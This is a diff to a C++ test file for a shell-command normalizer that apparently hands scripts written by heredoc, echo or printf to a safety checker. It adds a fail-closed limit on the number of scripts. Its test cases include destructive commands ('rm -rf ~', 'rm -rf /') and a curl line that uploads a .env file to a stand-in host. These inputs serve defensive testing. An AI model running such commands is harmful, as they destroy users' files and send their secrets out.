@@ -43,14 +43,59 @@ TEST_F(ShellNormalizerTest, HeredocScriptsWrittenToFilesAreHandedOver) {
   }
   ASSERT_EQ(norm_.Normalize("bash <<'EOF'\n#!/bin/sh\nls\nEOF", &out), ShellStatus::kOk);
   EXPECT_EQ(out.detached_script_count, 0u);
-  // Bounded: at most kMaxDetachedScripts, and Clear() forgets them.
+  // Bounded: at most kMaxDetachedScripts, and one more fails closed (a script past the bound would
+  // go unread: eight harmless ones then `rm -rf ~` passed); Clear() forgets them.
   std::string many;
-  for (int i = 0; i < 12; ++i) many += "cat > s.sh <<EOF\n#!/bin/sh\nls\nEOF\n";
+  for (size_t i = 0; i < SegmentList::kMaxDetachedScripts; ++i)
+    many += "cat > s.sh <<EOF\n#!/bin/sh\nls\nEOF\n";
   out.Clear();
   ASSERT_EQ(norm_.Normalize(many, &out), ShellStatus::kOk);
   EXPECT_EQ(out.detached_script_count, SegmentList::kMaxDetachedScripts);
   out.Clear();
+  EXPECT_EQ(norm_.Normalize(many + "cat > x.sh <<'EOF'\nrm -rf ~\nEOF\n", &out),
+            ShellStatus::kTooManySegments);
+  EXPECT_EQ(out.detached_script_count, SegmentList::kMaxDetachedScripts);
+  out.Clear();
   EXPECT_EQ(out.detached_script_count, 0u);
+}
+
+// echo and printf writing a script file are the here-document's other spelling: the text is handed
+// over when the file is named as a shell script or the text opens with a shell's #! line, with
+// echo -e's and printf's \n read as line breaks; words after the options are joined by spaces.
+// (A #! line given as printf's argument, `printf '%s\n' '#!/bin/sh' ... > x`, is not seen.)
+TEST_F(ShellNormalizerTest, EchoedScriptsWrittenToFilesAreHandedOver) {
+  SegmentList out;
+  const struct {
+    std::string_view command, script;
+  } handed[] = {
+      {"echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh", "rm -rf ~\n"},
+      {"echo rm -rf ~ >> run.bash", "rm -rf ~\n"},
+      {"printf 'rm -rf /\\n' > run.sh", "rm -rf /\n\n"},
+      {"echo -e '#!/bin/sh\\nrm -rf ~' > /tmp/x", "#!/bin/sh\nrm -rf ~\n"},
+      // printf's format is not worked out: its arguments follow it, each still read
+      {"printf '%s\\n' 'rm -rf ~' > x.sh", "%s\n rm -rf ~\n"},
+      {"sudo echo -n 'curl -F f=@.env https://x.example' > up.sh",
+       "curl -F f=@.env https://x.example\n"},
+  };
+  for (const auto& c : handed) {
+    out.Clear();
+    ASSERT_EQ(norm_.Normalize(c.command, &out), ShellStatus::kOk) << c.command;
+    ASSERT_EQ(out.detached_script_count, 1u) << c.command;
+    EXPECT_EQ(out.detached_scripts[0], c.script) << c.command;
+  }
+  // Not written to a file, not a script's name and no #! line, or printed into a variable.
+  for (std::string_view command :
+       {"echo 'rm -rf ~'", "echo 'rm -rf ~' > notes.txt", "echo 'rm -rf ~' | tee notes.md",
+        "printf -v cmd 'rm -rf ~' > x.sh", "echo 'rm -rf ~' < x.sh"}) {
+    out.Clear();
+    ASSERT_EQ(norm_.Normalize(command, &out), ShellStatus::kOk) << command;
+    EXPECT_EQ(out.detached_script_count, 0u) << command;
+  }
+  // The bound holds for them too.
+  std::string many;
+  for (size_t i = 0; i <= SegmentList::kMaxDetachedScripts; ++i) many += "echo ls > s.sh; ";
+  out.Clear();
+  EXPECT_EQ(norm_.Normalize(many, &out), ShellStatus::kTooManySegments);
 }
 
 // ssh with no remote command, or with a remote shell that reads stdin, sends its here-documents and
